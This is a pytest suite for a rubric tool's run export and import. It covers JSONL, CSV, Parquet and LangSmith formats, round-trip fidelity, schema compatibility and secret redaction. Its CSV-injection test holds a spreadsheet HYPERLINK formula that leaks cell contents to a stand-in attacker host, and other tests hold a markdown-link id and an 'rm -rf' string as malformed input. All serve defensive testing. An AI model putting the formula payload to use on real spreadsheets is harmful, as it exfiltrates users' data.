import csv
import dataclasses
import json
import logging
import math
import os
import socket
import subprocess
import warnings
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from sqlalchemy import text

from rubric_core.engine import Engine
from rubric_core.events import RunEvent
from rubric_core.exports import EXPORT_SCHEMA_VERSION, FORMATS, PARQUET_FRAMES, export_runs
from rubric_core.exports.importer import ImportError_, import_runs
from rubric_core.store import RunFilter, Store, open_store
from rubric_core.views import frames
from tests.core.helpers import example_config, run_cli
from tests.stubs.openai_stub import StubOpenAI

ROOT = Path(__file__).resolve().parents[2]
PLANTED = {
    "OPENAI_API_KEY": "sk-planted-openai-7f3a9c",
    "ANTHROPIC_API_KEY": "sk-ant-planted-22b8e1",
    "GOOGLE_API_KEY": "AIza-planted-91c0d4",
    "OPENROUTER_API_KEY": "sk-or-planted-55e2aa",
    "LANGSMITH_API_KEY": "lsv2-planted-0c7d11",
}


@pytest.fixture
def filled(store: Store, engine: Engine) -> Store:
    for name in ("haiku", "photosynthesis", "find-duplicates", "lipogram", "report"):
        engine.execute(example_config(name, rubric_name=name), subscribers=[store.record])
    return store


def test_run_level_jsonl(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "runs.jsonl"
    result = export_runs(filled, "jsonl", out)
    assert result.records == 5
    frame = pd.read_json(out, lines=True)
    assert set(frame.columns) >= {"schema_version", "id", "inputs", "outputs", "metadata"}
    assert set(frame["schema_version"]) == {EXPORT_SCHEMA_VERSION}
    first = json.loads(out.read_text().splitlines()[0])
    assert first["inputs"]["task"] and first["outputs"]["status"] == "satisfied"
    assert first["metadata"]["models"] == {"model": "offline:writer", "grader": "offline:grader"}
    assert all(c["passed"] for c in first["metadata"]["final_criteria"])
    assert len(first["metadata"]["history"]) == first["metadata"]["iterations"]


def test_filters_select_runs(filled: Store, tmp_path: Path) -> None:
    result = export_runs(filled, "jsonl", tmp_path / "x.jsonl", RunFilter(statuses=["max_iterations_reached"]))
    assert result.records == 1
    result = export_runs(filled, "jsonl", tmp_path / "y.jsonl", RunFilter(rubric_name="haiku", rubric_version=1))
    assert result.records == 1


def test_grader_level_and_pairs(filled: Store, tmp_path: Path) -> None:
    export_runs(filled, "grader-jsonl", tmp_path / "g.jsonl")
    graded = [json.loads(line) for line in (tmp_path / "g.jsonl").read_text().splitlines()]
    assert len(graded) == sum(r["iterations"] for r in filled.list_runs())
    assert {"rubric", "draft", "task", "files"} <= set(graded[0]["inputs"])
    assert {"result", "explanation", "criteria"} <= set(graded[0]["outputs"])
    export_runs(filled, "pairs", tmp_path / "all.jsonl", all_pairs=True)
    every = [json.loads(line) for line in (tmp_path / "all.jsonl").read_text().splitlines()]
    assert len(every) == sum(r["iterations"] - 1 for r in filled.list_runs())
    haiku = [p for p in every if p["task"].startswith("Write a haiku")]
    assert haiku[0]["failing_criteria"][0] == {
        "name": "Exactly three lines",
        "gap": "Has 4 non-empty lines; needs 3.",
        "check": {"kind": "line_count", "label": "line count", "looked_for": "exactly 3 lines", "found": "4 lines"},
        "human_passed": None,
    }
    assert haiku[0]["not_judged_criteria"] == []
    assert haiku[0]["draft_after"] != haiku[0]["draft_before"]
    export_runs(filled, "pairs", tmp_path / "p.jsonl")
    pairs = [json.loads(line) for line in (tmp_path / "p.jsonl").read_text().splitlines()]
    assert pairs and len(pairs) < len(every)  # the lipogram and report runs have passes that did not improve
    assert pairs == [p for p in every if p["passed_after"] > p["passed_before"]]
    for p in pairs:
        assert p["improved"] and p["prompt"] == p["task"]
        assert (p["chosen"], p["rejected"]) == (p["draft_after"], p["draft_before"])
        assert 0 <= p["passed_before"] < p["passed_after"] <= p["criteria_total"]
    for p in every:
        later_wins = p["passed_after"] >= p["passed_before"]
        assert p["chosen"] == (p["draft_after"] if later_wins else p["draft_before"])
        assert p["rejected"] == (p["draft_before"] if later_wins else p["draft_after"])


def test_csv_and_parquet(filled: Store, tmp_path: Path) -> None:
    export_runs(filled, "csv", tmp_path / "c.csv")
    crit = pd.read_csv(tmp_path / "c.csv")
    assert len(crit) == sum(len(filled.criteria([r["id"]])) for r in filled.list_runs())
    assert set(crit["schema_version"]) == {EXPORT_SCHEMA_VERSION}
    result = export_runs(filled, "parquet", tmp_path / "pq")
    assert sorted(str(p.relative_to(tmp_path / "pq")) for p in result.paths) == [
        "criteria/criteria.parquet",
        "iterations/iterations.parquet",
        "runs/runs.parquet",
    ]
    runs = pd.read_parquet(tmp_path / "pq" / "runs" / "runs.parquet")
    assert len(runs) == 5 and str(runs["created_at"].dtype).startswith("datetime64")
    meta = pq.read_schema(tmp_path / "pq" / "criteria" / "criteria.parquet").metadata
    assert meta[b"rubric_studio_schema_version"] == str(EXPORT_SCHEMA_VERSION).encode()
    assert pd.read_parquet(tmp_path / "pq" / "criteria")["regressed"].dtype == "boolean"


def test_empty_export_is_valid(store: Store, tmp_path: Path) -> None:
    assert export_runs(store, "parquet", tmp_path / "pq").records == 0
    assert pd.read_parquet(tmp_path / "pq" / "runs" / "runs.parquet").empty
    assert export_runs(store, "jsonl", tmp_path / "e.jsonl").records == 0


def test_exports_load_with_hugging_face_datasets(
    filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    import datasets

    for fmt in ("jsonl", "grader-jsonl", "pairs", "langsmith"):
        export_runs(filled, fmt, tmp_path / f"{fmt}.jsonl")
        ds = datasets.load_dataset(
            "json", data_files=str(tmp_path / f"{fmt}.jsonl"), split="train", cache_dir=str(tmp_path / "hf")
        )
        assert len(ds) > 0
    export_runs(filled, "parquet", tmp_path / "pq")
    for name in PARQUET_FRAMES:
        # data_dir, not data_files: each frame is one folder, loaded whole and alone.
        ds = datasets.load_dataset(
            "parquet", data_dir=str(tmp_path / "pq" / name), split="train", cache_dir=str(tmp_path / "hf")
        )
        expected = pd.read_parquet(tmp_path / "pq" / name / f"{name}.parquet")
        assert ds.column_names == list(expected.columns)
        assert len(ds) == len(expected) > 0
    crit = datasets.load_dataset(
        "parquet", data_dir=str(tmp_path / "pq" / "criteria"), split="train", cache_dir=str(tmp_path / "hf")
    )
    assert "criterion" in crit.column_names and "draft_text" not in crit.column_names


UNICODE_TASK = 'Schreibe einen Satz über Kaffee ☕ — 日本語も、emoji 🎉 and "quotes"\nsecond line'
DEAD_WORKER = f"{socket.gethostname()}|999999999|gone"


def _replay(store: Store, events: list[RunEvent], run_id: str, upto: int, terminal: tuple[str, dict] | None) -> None:
    """Record the first `upto` events of a run under a new id, then an optional terminal event."""
    kept = [dataclasses.replace(ev, run_id=run_id) for ev in events[:upto]]
    for ev in kept:
        store.record(ev)
    if terminal is not None:
        store.record(RunEvent(run_id=run_id, seq=len(kept), type=terminal[0], at=kept[-1].at + 0.25, data=terminal[1]))


@pytest.fixture
def varied(store: Store, engine: Engine) -> Store:
    """Runs of every kind: statuses, follow-up turns, files and tool calls, tags, notes, unicode, rubric versions."""
    rec = [store.record]
    haiku = engine.execute(example_config("haiku", rubric_name="haiku"), subscribers=rec)
    store.set_tags(haiku.run_id, ["poetry", "ünïcode 标签", '=HYPERLINK("http://x")'])
    store.set_note(haiku.run_id, 'Reviewed ✔ — keep.\nSecond line; commas, "quotes".')
    v2 = example_config("haiku", rubric_name="haiku")
    engine.execute(v2.replace(rubric=v2.rubric + "\n- At most 40 words"), subscribers=rec)
    photo = example_config("photosynthesis", rubric_name="photo")
    first = engine.execute(photo, subscribers=rec)
    engine.execute(
        photo,
        run_id=first.run_id,
        mode="follow_up",
        message="Now say it for a child 👶.",
        subscribers=rec,
        first_seq=store.next_seq(first.run_id),
    )
    engine.execute(
        photo,
        run_id=first.run_id,
        mode="follow_up",
        message="Give it a title.",
        rubric="- At most 12 words",
        subscribers=rec,
        first_seq=store.next_seq(first.run_id),
    )
    store.set_tags(first.run_id, ["follow-up"])
    engine.execute(example_config("find-duplicates"), subscribers=rec)
    engine.execute(example_config("lipogram", rubric_name="lipogram"), subscribers=rec)
    engine.execute(
        example_config("haiku", task=UNICODE_TASK, rubric="- At most 20 words\n- Mentions Kaffee", max_iterations=2),
        subscribers=rec,
    )
    events = engine.execute(example_config("haiku", rubric_name="haiku")).events  # not stored: replayed below
    kinds = [e.type for e in events]
    _replay(store, events, "cancelled-run", kinds.index("feedback") + 1, ("cancelled", {"turn": 0, "iterations": 1}))
    _replay(store, events, "error-run", kinds.index("evaluation") + 1, ("error", {"message": "Boom ⚡", "turn": 0}))
    second_grading = [i for i, k in enumerate(kinds) if k == "grading_started"][1]
    _replay(store, events, "interrupted-run", second_grading + 1, None)  # killed while grading iteration 1
    with store.engine.begin() as conn:
        conn.execute(text("UPDATE runs SET worker = :w WHERE id = 'interrupted-run'"), {"w": DEAD_WORKER})
    store.set_note("interrupted-run", "killed mid-grading")
    statuses = {r["status"] for r in store.list_runs()}
    assert statuses >= {"satisfied", "max_iterations_reached", "cancelled", "error", "interrupted"}
    return store


def _records(path: Path) -> dict[str, dict]:
    return {r["id"]: r for r in map(json.loads, path.read_text(encoding="utf-8").splitlines())}


def _paths_differ(a: Any, b: Any, path: str = "") -> list[str]:
    """Where two JSON values differ, as paths (empty when equal)."""
    if isinstance(a, dict) and isinstance(b, dict):
        out = [f"{path}.{k}: only on one side" for k in a.keys() ^ b.keys()]
        return out + [d for k in a.keys() & b.keys() for d in _paths_differ(a[k], b[k], f"{path}.{k}")]
    if isinstance(a, list) and isinstance(b, list) and len(a) == len(b):
        return [d for i, (x, y) in enumerate(zip(a, b, strict=True)) for d in _paths_differ(x, y, f"{path}[{i}]")]
    return [] if a == b and type(a) is type(b) else [f"{path}: {a!r} != {b!r}"]


def _close(a: Any, b: Any, key: str = "") -> bool:
    """Equal; unix times (keys ending in _at) within a microsecond (ISO text keeps microseconds)."""
    if key.endswith("_at") and isinstance(a, float) and isinstance(b, float):
        return math.isclose(a, b, abs_tol=1e-6)
    return a == b


def _rows_differ(left: list[dict], right: list[dict], skip: frozenset[str] = frozenset()) -> list[str]:
    out = []
    assert len(left) == len(right)
    for x, y in zip(left, right, strict=True):
        for key in x:
            if key not in skip and not _close(x[key], y[key], key):
                out.append(f"{key}: {x[key]!r} != {y[key]!r}")
    return out


def _core_events(store: Store, run_id: str) -> list[tuple]:
    out = []
    for ev in store.run_events(run_id):
        d = ev.data
        body = {k: v for k, v in d.items() if k not in ("turn", "iteration")} if ev.type.startswith("tool_") else None
        # A follow-up's run_started `turn` is written before the engine knows it (an engine quirk):
        # the turn is compared on the events that follow it.
        turn = None if ev.type == "run_started" else d.get("turn")
        out.append((ev.type, turn, d.get("iteration"), d.get("mode"), d.get("message"), body))
    return out


def test_export_import_export_is_lossless_over_every_field(
    varied: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = tmp_path / "first.jsonl"
    assert export_runs(varied, "jsonl", first).records == 9
    monkeypatch.setenv("RUBRIC_STUDIO_HOME", str(tmp_path / "other-machine"))
    other = open_store()
    assert (import_runs(other, first).imported, other.count_runs()) == (9, 9)
    second = tmp_path / "second.jsonl"
    export_runs(other, "jsonl", second)
    original, copied = _records(first), _records(second)
    assert original.keys() == copied.keys()
    for run_id, record in original.items():
        # every field: inputs, outputs, metadata, history, tags, note, totals, timestamps, files, tool events
        assert _paths_differ(record, copied[run_id], run_id) == []

    ids = sorted(original)
    runs_a, runs_b = varied.get_runs(ids), other.get_runs(ids)
    # The edit stamp (who last changed tags or the note, and its version) is this store's own concurrency
    # bookkeeping (issue 35 item 9): an imported copy starts its own.
    local = frozenset({"worker", "heartbeat_at", "imported_from", "edit_version", "edited_at", "edited_by"})
    assert _rows_differ(runs_a, runs_b, local) == []
    assert _rows_differ(varied.iterations(ids), other.iterations(ids)) == []
    assert _rows_differ(varied.criteria(ids), other.criteria(ids)) == []
    for run_id in ids:
        assert _core_events(other, run_id) == [
            e for e in _core_events(varied, run_id) if e[0] != "run_started" or e[3] != "resume"
        ], run_id
    for name, build in (
        ("runs", lambda s: frames.runs_frame_from_rows(s.get_runs(ids))),
        ("iterations", lambda s: frames.iterations_frame(s, ids)),
        ("criteria", lambda s: frames.criteria_frame(s, ids)),
    ):
        a, b = build(varied), build(other)
        for col in a.columns:
            if str(a[col].dtype).startswith("datetime"):
                assert ((a[col] - b[col]).abs().fillna(pd.Timedelta(0)) < pd.Timedelta(microseconds=1)).all(), col
            else:
                pd.testing.assert_series_equal(a[col], b[col], check_names=False, obj=f"{name}.{col}")

    haiku = next(r for r in original.values() if r["metadata"]["tags"])
    assert "ünïcode 标签" in haiku["metadata"]["tags"] and haiku["metadata"]["note"].startswith("Reviewed ✔")
    photo = next(r for r in original.values() if r["metadata"]["rubric_name"] == "photo")
    assert photo["metadata"]["turns"] == 3 and {h["turn"] for h in photo["metadata"]["history"]} == {0, 1, 2}
    assert [t["message"] for t in photo["metadata"]["turn_inputs"]] == [
        "Now say it for a child 👶.",
        "Give it a title.",
    ]
    assert photo["inputs"]["rubric"] == "- At most 12 words"
    assert photo["metadata"]["config"]["rubric"] != photo["inputs"]["rubric"]  # as started, then replaced
    tooled = [h for r in original.values() for h in r["metadata"]["history"] if h["tool_events"]]
    assert tooled and tooled[0]["files"]
    assert original["error-run"]["metadata"]["error"] == "Boom ⚡"
    assert original["interrupted-run"]["outputs"]["status"] == "interrupted"
    assert original["interrupted-run"]["metadata"]["finished_at"] is None
    assert all(r["metadata"]["tokens"]["total_tokens"] > 0 for r in original.values())
    assert any(r["inputs"]["task"] == UNICODE_TASK for r in copied.values())
    assert {(r["metadata"]["rubric_name"], r["metadata"]["rubric_version"]) for r in copied.values()} >= {
        ("haiku", 1),
        ("haiku", 2),
    }
    assert other.get_run("error-run")["imported_from"] == "first.jsonl"
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    import datasets

    for fmt in ("jsonl", "pairs", "langsmith"):  # the varied shapes still load as one table
        export_runs(varied, fmt, tmp_path / f"v.{fmt}")
        ds = datasets.load_dataset(
            "json", data_files=str(tmp_path / f"v.{fmt}"), split="train", cache_dir=str(tmp_path / "hf")
        )
        assert len(ds) == len((tmp_path / f"v.{fmt}").read_text(encoding="utf-8").splitlines())
    again = import_runs(other, first)
    assert (again.imported, again.skipped) == (0, 9)


def test_a_version_1_export_still_imports(filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "runs.jsonl"
    export_runs(filled, "jsonl", out)
    added = ("turn_inputs", "error", "suite")
    added_per_step = (
        *("draft_tokens", "drafted_at", "grading_run_id", "grading_started_at", "graded_at", "tool_events"),  # v2
        *("iteration_number", "turn_number", "grader_tools"),  # v3, v4, v5
    )
    lines = []
    for record in _records(out).values():  # the shape the first release wrote: none of the later fields
        record["schema_version"] = record["metadata"]["schema_version"] = 1
        for key in added:
            record["metadata"].pop(key)
        for step in record["metadata"]["history"]:
            for key in added_per_step:
                step.pop(key)
            for criterion in step["criteria"]:
                del criterion["verdict"], criterion["check"]  # v5
        for criterion in record["metadata"]["final_criteria"]:
            del criterion["verdict"], criterion["check"]
        lines.append(json.dumps(record))
    old = tmp_path / "v1.jsonl"
    old.write_text("\n".join(lines) + "\n", encoding="utf-8")
    monkeypatch.setenv("RUBRIC_STUDIO_HOME", str(tmp_path / "fresh"))
    fresh = open_store()
    assert import_runs(fresh, old).imported == 5
    export_runs(fresh, "jsonl", tmp_path / "again.jsonl")
    for run_id, record in _records(tmp_path / "again.jsonl").items():
        source = _records(out)[run_id]
        assert record["inputs"] == source["inputs"] and record["outputs"] == source["outputs"]
        for key in ("tags", "note", "tokens", "rubric_name", "rubric_version", "wall_time_s"):
            assert record["metadata"][key] == source["metadata"][key], key
        # A version 1 file has no verdict records: pass / fail read from `passed`, the check not recorded.
        for back, given in zip(record["metadata"]["final_criteria"], source["metadata"]["final_criteria"], strict=True):
            assert (back["name"], back["passed"], back["gap"]) == (given["name"], given["passed"], given["gap"])
            assert back["verdict"] == ("pass" if given["passed"] else "fail")
            assert back["check"]["kind"] == "unrecorded"
        assert [h["draft"] for h in record["metadata"]["history"]] == [
            h["draft"] for h in source["metadata"]["history"]
        ]


def _with_meta(line: str, **changes: Any) -> str:
    record = json.loads(line)
    record["metadata"].update(changes)
    return json.dumps(record)


def _with_step(line: str, **changes: Any) -> str:
    record = json.loads(line)
    record["metadata"]["history"][0].update(changes)
    return json.dumps(record)


def _with_end(line: str, end: dict) -> str:
    return _with_meta(line, turns=2, turn_inputs=[{"turn": 1, "message": "more", "rubric": "- a", "previous_end": end}])


@pytest.mark.parametrize(
    ("mutate", "fragment"),
    [
        (lambda lines: [*lines[:2], "{not json", *lines[2:]], "line 3: not valid JSON"),
        (
            lambda lines: [lines[0], json.dumps({**json.loads(lines[1]), "inputs": {"rubric": "- a"}})],
            "line 2: missing inputs.task",
        ),
        (lambda lines: [json.dumps({**json.loads(lines[0]), "schema_version": 999})], "newer"),
        (lambda lines: [lines[0], "[1, 2]"], "line 2: expected a JSON object"),
        (lambda lines: [json.dumps({**json.loads(lines[0]), "outputs": {"status": "great"}})], "not a run status"),
        (lambda lines: [json.dumps({**json.loads(lines[0]), "id": "a`![x](http://e)"})], "line 1: id must be"),
        # version 2 fields: checked before anything is written
        (lambda lines: [lines[0], _with_meta(lines[1], tags="poetry")], "line 2: metadata.tags must be a list"),
        (lambda lines: [_with_meta(lines[0], tokens={"total_tokens": "many"})], "metadata.tokens.total_tokens must"),
        (lambda lines: [_with_meta(lines[0], rubric_version="2")], "metadata.rubric_version must be a whole"),
        (lambda lines: [_with_step(lines[0], wall_time_s="slow")], r"history\[0\].wall_time_s must be a number"),
        (lambda lines: [_with_step(lines[0], draft_tokens=1.5)], r"history\[0\].draft_tokens must be a whole"),
        (lambda lines: [_with_step(lines[0], graded_at="yesterday")], "not an ISO date-time"),
        (lambda lines: [_with_step(lines[0], tool_events=[{"type": "rm -rf"}])], "tool_events must be a list"),
        (lambda lines: [_with_end(lines[0], {"type": "finished", "status": "great"})], "not a final run status"),
        (lambda lines: [_with_end(lines[0], {"type": "exploded"})], "must be an object with type finished"),
        (
            lambda lines: [_with_end(lines[0], {"type": "cancelled", "wall_time_s": "slow"})],
            "previous_end.wall_time_s must be a number",
        ),
    ],
)
def test_a_malformed_import_is_rejected_whole(
    filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mutate, fragment: str
) -> None:
    out = tmp_path / "runs.jsonl"
    export_runs(filled, "jsonl", out)
    bad = tmp_path / "bad.jsonl"
    bad.write_text("\n".join(mutate(out.read_text().splitlines())) + "\n")
    monkeypatch.setenv("RUBRIC_STUDIO_HOME", str(tmp_path / "fresh"))
    fresh = open_store()
    with pytest.raises(ImportError_, match=fragment):
        import_runs(fresh, bad)
    assert fresh.count_runs() == 0


def test_planted_secrets_never_reach_store_exports_or_logs(
    store: Store,
    engine: Engine,
    home: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    for var, value in PLANTED.items():
        monkeypatch.setenv(var, value)
    caplog.set_level(logging.DEBUG)
    with StubOpenAI() as stub:
        monkeypatch.setenv("OPENAI_BASE_URL", stub.base_url)
        engine.execute(
            example_config("photosynthesis", model="openai:gpt-4o-mini", grader="openai:gpt-4o-mini"),
            subscribers=[store.record],
        )
    with StubOpenAI(status=500) as stub:
        monkeypatch.setenv("OPENAI_BASE_URL", stub.base_url)
        engine.execute(example_config("haiku", grader="openai:gpt-4o-mini", timeout_s=3), subscribers=[store.record])
    engine.execute(
        example_config("report"), subscribers=[store.record], keys={"ANTHROPIC_API_KEY": "sk-ant-session-only-123"}
    )
    for fmt in FORMATS:
        export_runs(store, fmt, tmp_path / "out" / f"export.{fmt}")
    written = [p for p in (tmp_path / "out").rglob("*") if p.is_file()] + [p for p in home.rglob("*") if p.is_file()]
    assert any(p.name == "runs.sqlite" for p in written) and any(p.name == "checkpoints.sqlite" for p in written)
    secrets = [*PLANTED.values(), "sk-ant-session-only-123"]
    for path in written:
        data = path.read_bytes()
        for secret in secrets:
            assert secret.encode() not in data, f"{secret} found in {path}"
    for secret in secrets:
        assert secret not in caplog.text


def test_langsmith_without_a_key_writes_the_file_and_says_so(filled: Store, tmp_path: Path) -> None:
    result = export_runs(filled, "langsmith", tmp_path / "ls.jsonl")
    assert "Not uploaded: set LANGSMITH_API_KEY" in result.message
    example = json.loads((tmp_path / "ls.jsonl").read_text().splitlines()[0])
    assert set(example) == {"inputs", "reference_outputs", "metadata"}
    assert example["reference_outputs"]["status"] and "history" not in example["metadata"]


def test_cli_export_and_import(filled: Store, home: Path, tmp_path: Path) -> None:
    env = {**os.environ, "RUBRIC_STUDIO_HOME": str(home)}

    def cli(*args: str, env=env) -> subprocess.CompletedProcess:
        return run_cli(*args, env=env)

    out = cli("export", "--format", "jsonl", "--out", str(tmp_path / "a.jsonl"), "--status", "satisfied")
    assert out.returncode == 0 and "exported 4 records" in out.stdout
    other = {**env, "RUBRIC_STUDIO_HOME": str(tmp_path / "b")}
    assert "imported 4 runs" in cli("import", str(tmp_path / "a.jsonl"), env=other).stdout
    (tmp_path / "bad.jsonl").write_text("{}\n")
    bad = cli("import", str(tmp_path / "bad.jsonl"), env=other)
    assert bad.returncode == 2 and "line 1: missing schema_version" in bad.stderr and "Traceback" not in bad.stderr


def test_langsmith_upload_against_a_local_stub(filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.stubs.langsmith_stub import StubLangSmith

    with StubLangSmith() as ls:
        monkeypatch.setenv("LANGSMITH_API_KEY", "lsv2-planted-upload")
        monkeypatch.setenv("LANGSMITH_ENDPOINT", ls.url)
        result = export_runs(filled, "langsmith", tmp_path / "ls.jsonl", langsmith_dataset="rubric-evals")
    assert "uploaded 5 examples to LangSmith dataset 'rubric-evals'" in result.message
    assert [d["name"] for d in ls.datasets.values()] == ["rubric-evals"]
    assert len(ls.examples) == 5 and {"task", "rubric"} <= set(ls.examples[0]["inputs"])
    assert "lsv2-planted-upload" in ls.api_keys
    assert "lsv2-planted-upload" not in result.message


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_RUBRIC = f"- {HYPERLINK}\n- -12 degrees is cold\n- @SUM(A1:A9)\n- +1 for a title\n- At most 20 words"


def test_csv_neutralises_formula_cells_and_only_csv(store: Store, engine: Engine, tmp_path: Path) -> None:
    engine.execute(
        example_config("haiku", rubric=FORMULA_RUBRIC, rubric_name=HYPERLINK, max_iterations=1),
        subscribers=[store.record],
    )
    export_runs(store, "csv", tmp_path / "c.csv")
    with (tmp_path / "c.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["criterion"] for r in rows] == [
        "'" + HYPERLINK,
        "'-12 degrees is cold",
        "'@SUM(A1:A9)",
        "'+1 for a title",
        "At most 20 words",
    ]
    assert {r["rubric_name"] for r in rows} == {"'" + HYPERLINK}
    for row in rows:  # no cell a spreadsheet would evaluate
        assert all(not v or v[0] not in "=+-@\t\r" for v in row.values()), row
    assert {r["iteration"] for r in rows} == {"0"} and {r["schema_version"] for r in rows} == {"7"}  # numbers as is
    assert {r["iteration_number"] for r in rows} == {"1"}
    export_runs(store, "jsonl", tmp_path / "r.jsonl")
    record = json.loads((tmp_path / "r.jsonl").read_text(encoding="utf-8"))
    assert record["metadata"]["rubric_name"] == HYPERLINK  # the other formats keep the exact text
    assert record["metadata"]["history"][0]["criteria"][0]["name"] == HYPERLINK
    export_runs(store, "parquet", tmp_path / "pq")
    crit = pd.read_parquet(tmp_path / "pq" / "criteria")
    assert crit["criterion"].iloc[0] == HYPERLINK and crit["criterion"].iloc[1] == "-12 degrees is cold"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("-3 words over", "'-3 words over"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
        (None, None),
        (True, True),
    ],
)
def test_csv_safe(cell: Any, expected: Any) -> None:
    from rubric_core.exports import csv_safe

    assert csv_safe(cell) == expected


def test_langsmith_upload_uses_current_field_names_without_deprecation_warnings(
    filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.stubs.langsmith_stub import StubLangSmith

    with StubLangSmith() as ls:
        monkeypatch.setenv("LANGSMITH_API_KEY", "lsv2-planted-upload")
        monkeypatch.setenv("LANGSMITH_ENDPOINT", ls.url)
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # a DeprecationWarning from the client fails the upload, and the test
            result = export_runs(filled, "langsmith", tmp_path / "ls.jsonl", langsmith_dataset="evals")
    assert "uploaded 5 examples" in result.message, result.message
    records = [json.loads(line) for line in (tmp_path / "ls.jsonl").read_text().splitlines()]
    assert all(set(r) == {"inputs", "reference_outputs", "metadata"} for r in records)
    # On the wire the client serialises reference_outputs under the API's `outputs` key.
    assert [e["outputs"] for e in ls.examples] == [r["reference_outputs"] for r in records]


def test_the_old_outputs_name_would_warn_in_the_pinned_client() -> None:
    """Guards the test above: the pinned client does warn on the deprecated name."""
    from langsmith import schemas

    with pytest.warns(DeprecationWarning, match="reference_outputs"):
        schemas.ExampleCreate(inputs={"a": 1}, outputs={"b": 2})


def test_cli_pairs_improved_by_default_all_with_a_flag(filled: Store, home: Path, tmp_path: Path) -> None:
    env = {**os.environ, "RUBRIC_STUDIO_HOME": str(home)}
    improved = run_cli("export", "--format", "pairs", "--out", str(tmp_path / "p.jsonl"), env=env)
    every = run_cli("export", "--format", "pairs", "--all-pairs", "--out", str(tmp_path / "a.jsonl"), env=env)
    assert improved.returncode == every.returncode == 0
    n_improved = len((tmp_path / "p.jsonl").read_text().splitlines())
    n_every = len((tmp_path / "a.jsonl").read_text().splitlines())
    assert 0 < n_improved < n_every == sum(r["iterations"] - 1 for r in filled.list_runs())
    assert f"exported {n_every} records" in every.stdout
    wrong = run_cli("export", "--format", "csv", "--all-pairs", "--out", str(tmp_path / "c.csv"), env=env)
    assert wrong.returncode == 2 and "--all-pairs applies to --format pairs only" in wrong.stderr
    assert not (tmp_path / "c.csv").exists()


def test_every_export_names_the_iteration_as_the_dashboard_counts_it(store: Store, engine: Engine, tmp_path) -> None:
    """Issue 22 item 21: beside the library's 0-based `iteration`, `iteration_number` counts from 1 as the UI does
    (1 = the first draft), in every format that has an iteration; `turn_number` likewise beside `turn` (the UI's
    "Turn 2" had been `turn: 1` with nothing to say so); the schema version says so (4)."""
    assert EXPORT_SCHEMA_VERSION == 7
    first = engine.execute(example_config("haiku"), subscribers=[store.record])
    engine.execute(
        example_config("haiku"),
        run_id=first.run_id,
        mode="follow_up",
        message="Again, about autumn.",
        subscribers=[store.record],
        first_seq=store.next_seq(first.run_id),
    )
    export_runs(store, "jsonl", tmp_path / "r.jsonl")
    record = json.loads((tmp_path / "r.jsonl").read_text(encoding="utf-8"))
    history = record["metadata"]["history"]
    assert [(h["iteration"], h["iteration_number"]) for h in history if h["turn"] == 0] == [(0, 1), (1, 2), (2, 3)]
    assert {(h["turn"], h["turn_number"]) for h in history} == {(0, 1), (1, 2)}
    export_runs(store, "grader-jsonl", tmp_path / "g.jsonl")
    graded = [json.loads(line) for line in (tmp_path / "g.jsonl").read_text(encoding="utf-8").splitlines()]
    assert all(g["iteration_number"] == g["iteration"] + 1 for g in graded) and graded[0]["iteration_number"] == 1
    assert {(g["turn"], g["turn_number"]) for g in graded} == {(0, 1), (1, 2)}
    export_runs(store, "pairs", tmp_path / "p.jsonl", all_pairs=True)
    pairs = [json.loads(line) for line in (tmp_path / "p.jsonl").read_text(encoding="utf-8").splitlines()]
    assert pairs and all(
        p["iteration_number"] == p["iteration"] + 1 and p["turn_number"] == p["turn"] + 1 for p in pairs
    )
    export_runs(store, "parquet", tmp_path / "pq")
    for name in ("iterations", "criteria"):
        frame = pd.read_parquet(tmp_path / "pq" / name)
        assert (frame["iteration_number"] == frame["iteration"] + 1).all() and frame["iteration_number"].min() == 1
        assert (frame["turn_number"] == frame["turn"] + 1).all() and set(frame["turn_number"]) == {1, 2}
    export_runs(store, "csv", tmp_path / "c.csv")
    rows = list(csv.DictReader((tmp_path / "c.csv").open(encoding="utf-8")))
    assert {(r["turn"], r["turn_number"]) for r in rows} == {("0", "1"), ("1", "2")}
    from rubric_core.exports.import_check import check_record

    check_record(record, 1)  # a version 4 record passes the import check


def test_grader_records_and_pairs_carry_the_rubric_each_turn_was_graded_against(
    store: Store, engine: Engine, tmp_path: Path
) -> None:
    """A follow-up that replaces the rubric: the first turn's grading passes keep the first rubric (they had
    carried the replacement, which they never graded against); a follow-up that keeps it, the one before."""
    rec = [store.record]
    haiku = example_config("haiku", rubric_name="haiku")
    first = engine.execute(haiku, subscribers=rec)
    for message, rubric in (("Now about autumn.", "- Is about autumn\n- Exactly three lines"), ("Again.", None)):
        engine.execute(
            haiku,
            run_id=first.run_id,
            mode="follow_up",
            message=message,
            rubric=rubric,
            subscribers=rec,
            first_seq=store.next_seq(first.run_id),
        )
    autumn = "- Is about autumn\n- Exactly three lines"
    assert store.get_run(first.run_id)["rubric"] == autumn  # the run row holds the newest rubric
    export_runs(store, "grader-jsonl", tmp_path / "g.jsonl")
    graded = [json.loads(line) for line in (tmp_path / "g.jsonl").read_text().splitlines()]
    by_turn = {r["turn"]: r["inputs"]["rubric"] for r in graded}
    assert sorted(by_turn) == [0, 1, 2]
